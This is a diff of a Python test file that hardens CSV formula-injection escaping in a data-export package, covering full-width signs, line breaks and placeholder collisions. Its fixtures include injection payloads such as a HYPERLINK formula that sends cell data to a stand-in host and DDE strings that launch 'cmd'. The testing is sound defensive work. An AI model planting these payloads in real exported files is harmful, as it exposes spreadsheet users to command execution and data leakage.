@@ -1,9 +1,11 @@
 """CSV formula injection (issue 18, item 4): no CSV export lets a spreadsheet run a cell.
 
 Area codes, area names, attribute values and query labels come from the curator's files, made by
-anyone.  A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula to a
-spreadsheet.  Every CSV writer is fed such text and must write it escaped (a leading single quote,
-the field in double quotes); numbers stay numbers; safe inputs give the bytes they always gave.
+anyone.  A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return (or a full-width
+``＝ ＋ － ＠``, or whitespace before a sign) is a formula to a spreadsheet.  Every CSV writer is fed
+such text and must write it escaped (a leading single quote, the field quoted by the writer as any
+other); no text of one cell can unescape another; numbers stay numbers; safe inputs give the bytes
+they always gave.
 """
 
 from __future__ import annotations
@@ -21,7 +23,7 @@ import dpcore
 from dpcore import pipeline
 from dpcore.areas import area_sets, census_privelet, census_tables, export, marginals
 from dpcore.areas.hierarchy import Hierarchy, HierarchyCounts
-from dpcore.data.csv_safe import FORMULA_PREFIXES, csv_bytes
+from dpcore.data.csv_safe import csv_bytes, is_formula
 from dpcore.data.domain import Aggregate, Bounds, Grid
 from dpcore.flows import export as fexport
 from dpcore.flows.counts import ODCounts
@@ -31,7 +33,9 @@ from dpcore.privacy import budget
 from dpcore.privacy.ledger import Ledger
 from dpcore.privacy.noise import NoiseSource
 
-EVIL = ["=HYPERLINK(\"http://x.test/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)", "\t=1", "\r=2"]
+EVIL = ["=HYPERLINK(\"http://x.test/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)", "\t=1", " \t=2"]  # "\r=2": below
+#: full-width signs and whitespace before a sign, which some spreadsheets also run
+WIDE = ["\uff1dSUM(1,2)", "\uff0b1", "\uff0d1", "\uff20A", " =1+2", "  @SUM(1)", "\u3000=1", "\u2003-1", " \uff1d1"]
 
 
 def fields(data: bytes) -> list[list[str]]:
@@ -39,20 +43,17 @@ def fields(data: bytes) -> list[list[str]]:
 
 
 def assert_no_formula(data: bytes, numeric: set[str] = frozenset()) -> None:
-    """No field starts like a formula unless it is a number in a numeric column; every escaped
-    field is quoted in the file."""
+    """No field could run as a formula unless it is a number in a numeric column, and no field
+    holds another field's text (every row has the header's width)."""
     rows = fields(data)
     head = rows[0]
-    for row in rows:
+    for name in head:
+        assert not is_formula(name), name
+    for row in rows[1:]:
         for name, v in zip(head, row, strict=True):
-            if v[:1] in FORMULA_PREFIXES:
+            if is_formula(v):
                 assert name in numeric, (name, v)
                 float(v)  # a number, written as one
-    text = data.decode("utf-8")
-    for row in rows:
-        for v in row:
-            if v.startswith("'") and v[1:2] in FORMULA_PREFIXES:
-                assert '"' + v.replace('"', '""') + '"' in text, v
 
 
 def test_helper_escapes_text_keeps_numbers_and_safe_bytes() -> None:
@@ -67,8 +68,66 @@ def test_helper_escapes_text_keeps_numbers_and_safe_bytes() -> None:
         assert b"\n-3," not in out and b",-3," in out  # the negative number unquoted
         safe = df.assign(code=[f"A{i}" for i in range(7)])
         assert csv_bytes(safe, write) == write(safe)
-    hdr = csv_bytes(pd.DataFrame({"=evil": [1]}), lambda d: d.to_csv(index=False).encode())
-    assert hdr == b"\"'=evil\"\n1\n"
+    hdr = csv_bytes(pd.DataFrame({"=evil": [1], "a,=b": [2]}), lambda d: d.to_csv(index=False).encode())
+    assert hdr == b"'=evil,\"a,=b\"\n1,2\n"
+
+
+def _writers() -> list:
+    """The writers the exporters use: pandas (two formats) and pyarrow quoting as needed."""
+    import pyarrow as pa
+    import pyarrow.csv as pacsv
+
+    def arrow(d: pd.DataFrame) -> bytes:
+        buf = io.BytesIO()
+        pacsv.write_csv(pa.Table.from_pandas(d, preserve_index=False), buf, pacsv.WriteOptions(quoting_style="needed"))
+        return buf.getvalue()
+
+    return [lambda d: d.to_csv(index=False).encode(),
+            lambda d: d.to_csv(index=False, float_format="%.6g", lineterminator="\r\n").encode(), arrow]
+
+
+def test_no_cell_unescapes_another() -> None:
+    """Text that looks like the helper's internals (an earlier version wrote placeholders
+    ``DPCSVESCAPED<i>_`` and substituted them back) cannot turn into an unescaped formula."""
+    bad = ["=HYPERLINK(1)", "DPCSVESCAPED0_,=cmd|' /C calc'!A0", "DPCSVESCAPED0_", "x\"DPCSVESCAPED1_\"",
+           "DPCSVESCAPEDX0_", "safe"]
+    df = pd.DataFrame({"name": bad, "group": ["=g", "DPCSVESCAPED0_", "-", "DPCSVESCAPED2_", "@", "g"],
+                       "n": range(6)})
+    for write in _writers():
+        out = csv_bytes(df, write)
+        assert_no_formula(out, {"n"})
+        back = [r[:2] for r in fields(out)[1:]]
+        assert back == [[("'" + v) if is_formula(v) else v for v in pair]
+                        for pair in zip(df["name"], df["group"], strict=True)]
+
+
+def test_line_breaks_inside_cells() -> None:
+    """Python's csv writer (pandas) does not quote a bare carriage return, which a reader takes as
+    the end of a row: text after any line break in a cell is escaped too, so no line of the file
+    starts a formula whatever the writer quotes."""
+    cells = ["a\r=cmd|' /C calc'!A0", "b\n@SUM(1)", "c\r\n+1", "d\r -1", "\r=2", "e\nf", "=x\r=y"]
+    df = pd.DataFrame({"code": cells, "n": range(len(cells))})
+    for write in _writers():
+        out = csv_bytes(df, write)
+        for row in fields(out):
+            assert not any(is_formula(v) for v in row), row
+        for line in out.decode().splitlines():
+            assert not is_formula(line), line
+    out = csv_bytes(df, _writers()[2])  # pyarrow quotes line breaks: the cells read back
+    assert [r[0] for r in fields(out)[1:]] == ["a\r'=cmd|' /C calc'!A0", "b\n'@SUM(1)", "c\r\n'+1", "d\r' -1",
+                                               "'\r'=2", "e\nf", "'=x\r'=y"]
+
+
+def test_full_width_and_leading_space_signs() -> None:
+    df = pd.DataFrame({"code": ["E1", *WIDE, " Leeds", "\uff21"], "n": range(len(WIDE) + 3)})
+    for write in _writers():
+        out = csv_bytes(df, write)
+        assert_no_formula(out, {"n"})
+        back = [r[0] for r in fields(out)[1:]]
+        assert back == ["E1", *("'" + v for v in WIDE), " Leeds", "\uff21"]
+    safe = pd.DataFrame({"code": ["E1", " Leeds", "a=b", "\uff21"], "n": [1, -2, 3, 4]})
+    for write in _writers():
+        assert csv_bytes(safe, write) == write(safe)
 
 
 def test_points_release_csv_is_unchanged() -> None:
@@ -92,7 +151,7 @@ def test_points_release_csv_is_unchanged() -> None:
 def test_points_workload_answers() -> None:
     from dpcore.pipeline import release_points
 
-    names = ["=HYPERLINK(A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)", "=a", "b"]
+    names = ["=HYPERLINK(A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)", "=a", "\"DPCSVESCAPED0_,=cmd|' /C calc'!A0\""]
     rects = "".join(f"{v},0,0,0.5,0.5,1,{g}\n"
                     for v, g in zip(names, ["@g", "=g", "g", "-g", "+g", "g"], strict=True))
     params = {"workload": "uploaded",
@@ -103,6 +162,7 @@ def test_points_workload_answers() -> None:
     out = pexport.workload_answers_csv(rel)
     rows = fields(out)
     assert rows[1][1] == "'=HYPERLINK(A1)" and rows[1][2] == "'@g" and rows[3][1] == "'-2+3"
+    assert rows[6][1] == "DPCSVESCAPED0_,=cmd|' /C calc'!A0"
     assert_no_formula(out, {"answer", "ci95_low", "ci95_high", "west", "east", "south", "north",
                             "lon_min", "lat_min", "lon_max", "lat_max"})
 
